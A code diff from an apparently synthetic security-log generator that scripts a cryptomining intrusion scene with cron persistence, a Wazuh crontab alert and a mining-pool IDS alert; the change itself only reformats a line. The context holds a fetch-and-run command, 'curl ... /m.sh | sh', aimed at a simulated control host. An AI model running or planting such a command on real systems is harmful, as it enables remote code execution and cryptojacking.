@@ -20,7 +20,8 @@ def play(scene: Scene) -> None:
     scene.repeat("lin", 6, 900, lambda at: linux_auth.cron(
         at, host, "www-data", f"curl -fsSL http://{scene.control_name}/m.sh | sh", pid=scene.rng.randint(500, 32_000)))  # fmt: skip
     scene.write("hids", lambda at: scene.hosts.wazuh(
-        at, server, 2833, 8, "Root's crontab entry changed.", ("syslog", "cron"), ("T1053.003", "Execution", "Cron"), linux=True))  # fmt: skip
+        at, server, 2833, 8, "Root's crontab entry changed.", ("syslog", "cron"), ("T1053.003", "Execution", "Cron"),
+        linux=True))  # fmt: skip
     scene.step("shares to the pool", "T1496", 120)
     scene.repeat("ids", 26, 5400, lambda at: scene.sensor.alert(
         at, scene.of(server), (scene.control, 3333), "MALWARE Stratum mining pool sign-in",
